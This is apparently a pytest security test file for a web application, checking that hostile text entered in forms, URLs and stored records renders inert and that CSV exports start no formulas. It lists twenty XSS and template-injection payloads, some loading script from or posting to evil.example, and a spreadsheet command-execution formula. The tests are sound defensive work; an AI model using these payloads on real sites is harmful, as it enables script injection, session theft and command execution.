"""Hostile text, in every field of every form and everywhere else that takes text: it stays text."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Final
from urllib.parse import parse_qsl, quote, urlsplit, urlunsplit

import pytest

from keystead.domain.documents import CollectionDraft, DocumentDraft, Push
from keystead.domain.workspaces import Role
from tests.support.browser import Browser, Page
from tests.support.markup import Element, parse
from tests.support.surface import FoundForm, FurnishedArea, Survey, Walk, is_html

FEWEST_FIELDS: Final = 7
MARK: Final = "zq-hostile-7"
"""Part of every payload, so that any trace of it can be found."""
PAYLOADS: Final = (
    "<script>alert('zq-hostile-7')</script>",
    "</script><script src=//evil.example/zq-hostile-7.js></script>",
    "<img src=x onerror=alert('zq-hostile-7')>",
    "<svg/onload=alert('zq-hostile-7')>",
    "\"><script>alert('zq-hostile-7')</script>",
    "'><img src=x onerror=alert(zq-hostile-7)>",
    '" autofocus onfocus=alert("zq-hostile-7") x="',
    "' onmouseover='alert(zq-hostile-7)",
    "</textarea><script>alert('zq-hostile-7')</script>",
    "</title><script>alert('zq-hostile-7')</script>",
    "<!--<img src=x onerror=alert('zq-hostile-7')>-->",
    "javascript:alert('zq-hostile-7')",
    "<a href=javascript:alert('zq-hostile-7')>zq-hostile-7</a>",
    "{{ 'zq' * 2 }}{% raw %}zq-hostile-7",
    "${7*7}#{7*7}zq-hostile-7",
    "&lt;script&gt;alert('zq-hostile-7')&lt;/script&gt;",
    "<b hx-get=/sign-out hx-trigger=load>zq-hostile-7</b>",
    "<form action=//evil.example><button>zq-hostile-7",
    "<style>*{display:none}</style>zq-hostile-7",
    "<hx-partial hx-target=body><b>zq-hostile-7</b></hx-partial>",
)
FORMULAS: Final = ("=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "%0A=1")
SHOWING: Final = {"value", "title", "alt", "placeholder", "content", "datetime"}
"""Attributes that show text and have no other effect."""


def require_inert(page: Element, where: object) -> None:
    """Raise AssertionError if a page has an active part that isn't ours, or that depends on the text."""
    for element in page.walk():
        for name, value in element.attributes.items():
            assert not name.startswith(("on", "style", "hx-on")), (where, name)
            if MARK in value.lower() and not name.startswith(("aria-", "data-")):
                assert name in SHOWING or is_own_address(value), (where, name, value)
        assert MARK not in element.tag, where
        assert not any(MARK in name for name in element.attributes), where
        require_known(element, where)


def require_known(element: Element, where: object) -> None:
    """Raise AssertionError for an element that a payload would have created."""
    attributes = element.attributes
    assert element.tag not in {"style", "hx-partial", "iframe", "object", "base"}, where
    assert element.tag != "script" or attributes.get("src", "").startswith("/static/"), where
    assert element.tag != "img" or attributes.get("src", "").startswith("/static/"), where
    assert element.tag != "form" or is_own_address(attributes.get("action", "")), where
    assert attributes.get("hx-trigger", "") != "load", where
    if element.tag == "a" and "href" in attributes:
        assert attributes["href"].startswith(("/", "#", "https://product.example/")), (
            where,
            attributes,
        )


def is_own_address(value: str) -> bool:
    """Return whether it is one of our paths, with the text escaped in it."""
    return value.startswith("/") and not value.startswith(("//", "/\\")) and "<" not in value


def texts_of(seen: Page) -> Iterator[str]:
    """Yield the texts that a page shows, and the values of its fields."""
    yield seen.tree.text
    yield from (e.attributes.get("value", "") for e in seen.tree.all("input"))


def hostile_pages(furnished: FurnishedArea) -> Iterator[tuple[str, Page]]:
    """Yield every page that any member sees now."""
    for who in ("owner", "viewer", "stranger"):
        visitor = furnished.visitors[who]
        browser = furnished.browser(who)
        walk = Walk(browser, furnished.area.app)
        start = "/sign-in" if who == "stranger" else f"{furnished.sample.base}/keys"
        for seen in walk.through(
            start, *sorted({urlsplit(s.path).path for s in visitor.pages})
        ).pages:
            if is_html(seen):
                yield f"{who} {seen.path}", seen


def furnish_with(furnished: FurnishedArea, number: int) -> None:
    """Put the text everywhere that no form reaches: names, agents, addresses, documents, events."""
    sample, services, payload = (
        furnished.sample,
        furnished.sample.installation.services,
        PAYLOADS[number],
    )
    sample.clock.advance(seconds=1)
    services.workspaces.rename(sample.principal, payload)
    key = sample.key(payload, 30, by=sample.person(Role.DEVELOPER, payload))
    sample.use(key, sample.clock.now(), payload, payload)
    shelf = f"{MARK}-{number}"
    services.documents.create_collection(sample.principal, CollectionDraft(shelf, payload))
    draft = DocumentDraft(MARK, payload, payload, attributes={payload: payload})
    services.documents.push(sample.principal, shelf, Push(upsert=[draft]))
    services.keys.revoke(sample.principal, sample.key(payload, None).id)


@pytest.mark.slow
def test_text_stays_text(survey: Survey, tmp_path: Path) -> None:
    """With twenty payloads everywhere, no page has an element, an attribute or a URL that they created."""
    assert len(set(PAYLOADS)) == 20
    with survey.copied(tmp_path) as furnished:
        for number in range(len(PAYLOADS)):
            furnish_with(furnished, number)
            sent = list(send_everywhere(survey, furnished, number))
            assert len(sent) >= FEWEST_FIELDS, sent
        pages = list(hostile_pages(furnished))
    for where, seen in pages:
        require_inert(seen.tree, where)
    shown = "\n".join(text for _, seen in pages for text in texts_of(seen))
    assert [p for p in PAYLOADS if shown.count(" ".join(p.split())) < 2] == []


@pytest.mark.slow_on("postgresql")
def test_text_next_to_a_password_stays_text(survey: Survey, tmp_path: Path) -> None:
    """Forms with a password are tested from the same state, since they start and end sessions."""
    asking = [(who, form) for who, form in survey.forms if form.passwords]
    assert len(asking) >= 3
    for number, payload in enumerate(PAYLOADS):
        for who, wanted in asking:
            names = wanted.texts if number % 10 == 0 else set(wanted.texts) - set(wanted.passwords)
            for name in names:
                with survey.copied(tmp_path / str(number)) as furnished:
                    assert send(furnished, who, wanted, name, payload)


def send_everywhere(survey: Survey, furnished: FurnishedArea, number: int) -> Iterator[str]:
    """Send the payload in every second text field of the forms without a password; the next one takes the others."""
    fields = [
        (who, wanted, name)
        for who, wanted in survey.forms
        for name in ([] if wanted.passwords else wanted.texts)
    ]
    for who, wanted, name in fields[number % 2 :: 2]:
        if send(furnished, who, wanted, name, PAYLOADS[number]):
            yield f"{wanted.pattern} {name}"


def send(furnished: FurnishedArea, who: str, wanted: FoundForm, name: str, payload: str) -> bool:
    """Send the payload in that field and check the response; return whether the form could be sent."""
    if (offer := offered(furnished, who, wanted)) is None:
        return False
    browser, form = offer
    seen = browser.post(form.action, form.filled(**{name: payload}))
    assert seen.status < 500, (form.kind, name)
    if seen.response.request.method == "POST":  # the walk visits later the pages that it leads to
        require_inert(seen.tree, (form.kind, name, payload))
    return True


def offered(
    furnished: FurnishedArea, who: str, wanted: FoundForm
) -> tuple[Browser, FoundForm] | None:
    """Return the form as it is now, or None if an earlier text has used it up."""
    try:
        return furnished.form(who, wanted)
    except KeyError:
        return None


@pytest.mark.slow_on("postgresql")
def test_addresses_stay_addresses(survey: Survey, tmp_path: Path) -> None:
    """A payload in any parameter of any URL creates nothing on the resulting page."""
    count = 0
    with survey.copied(tmp_path) as furnished:
        for who, visitor in survey.visitors.items():
            browser = furnished.browser(who)
            for url in sorted({url for seen in visitor.pages for url in spoilt(seen.path)}):
                seen = browser.open(url)
                assert seen.status < 500, url
                if is_html(seen):
                    require_inert(seen.tree, url)
                count += 1
    assert count >= 20


def spoilt(url: str) -> Iterator[str]:
    """Yield the URL with a payload in each of its parameters, and in the last part of its path."""
    parts = urlsplit(url)
    for name, _ in parse_qsl(parts.query, keep_blank_values=True):
        for payload in (PAYLOADS[0], PAYLOADS[6], PAYLOADS[11]):
            yield urlunsplit(parts._replace(query=f"{name}={quote(payload)}"))
    yield f"{parts.path.rpartition('/')[0]}/{quote(PAYLOADS[2], safe='')}"


@pytest.mark.slow_on("postgresql")
@pytest.mark.parametrize("formula", FORMULAS)
def test_spreadsheets_compute_nothing(survey: Survey, tmp_path: Path, formula: str) -> None:
    """No cell of any file starts a formula (CWE-1236), whatever text users entered."""
    with survey.copied(tmp_path) as furnished:
        furnished.sample.person(Role.VIEWER, formula)
        furnished.sample.key(formula, 30, by=furnished.sample.person(Role.DEVELOPER, formula))
        browser = furnished.browser("owner")
        files = [
            browser.open(seen.path)
            for seen in survey.visitors["owner"].pages
            if seen.headers["content-type"].startswith("text/csv")
        ]
        cells = [c for seen in files for row in csv.reader(io.StringIO(seen.html)) for c in row]
    assert [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"}] == []
    assert all("nosniff" in s.headers["x-content-type-options"] for s in files)
    assert not files or any(formula in cell for cell in cells)


@pytest.mark.slow_on("postgresql")
def test_a_payload_is_found_where_it_acts() -> None:
    """The check itself can fail: it refuses markup with an active payload."""
    harmless = "<p>{}</p>"
    for alive in (
        "<p onclick='zq-hostile-7'></p>",
        "<b zq-hostile-7></b>",
        "<a href='javascript:zq-hostile-7'>x</a>",
    ):
        with pytest.raises(AssertionError):
            require_inert(parse(harmless.format(alive)), "alive")
    require_inert(parse(harmless.format("zq-hostile-7 &lt;script&gt;")), "inert")
